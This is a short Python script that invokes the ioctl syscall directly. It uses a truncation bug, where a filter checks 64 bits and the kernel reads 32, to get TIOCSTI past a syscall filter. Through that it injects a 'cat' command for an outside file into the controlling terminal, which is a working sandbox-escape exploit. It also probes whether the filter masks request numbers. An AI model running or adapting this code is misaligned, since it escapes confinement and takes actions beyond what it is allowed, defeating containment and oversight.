# A high bit in an ioctl request: the filter compares 64 bits, the kernel takes 32.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    # By number, past whatever Python and the C library would say.
    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


IOCTL, TIOCSTI, TCGETS = 16, 0x5412, 0x5401

# The kernel declares the request as an unsigned int: what is above bit 31 it throws away. A filter
# that refuses the 64-bit number 0x5412 lets 0x1_0000_5412 pass, and the kernel sees 0x5412.
for letter in f"cat {outside['file']}\n".encode():
    refused = []
    for descriptor in 0, 1, 2:
        for request in TIOCSTI, 1 << 32 | TIOCSTI, 0x8000_0000_0000_0000 | TIOCSTI:
            try:
                call(IOCTL, descriptor, request, ctypes.byref(ctypes.c_char(letter)))
                print("typed into", descriptor)
            except OSError as error:
                refused.append(error.strerror)
print(set(refused))

# A request that the filter knows, with and without the bit: a filter that masks answers the same.
for request in TCGETS, 1 << 32 | TCGETS:
    try:
        call(IOCTL, 1, request, ctypes.create_string_buffer(64))
    except OSError as error:
        print(hex(request), error.strerror)
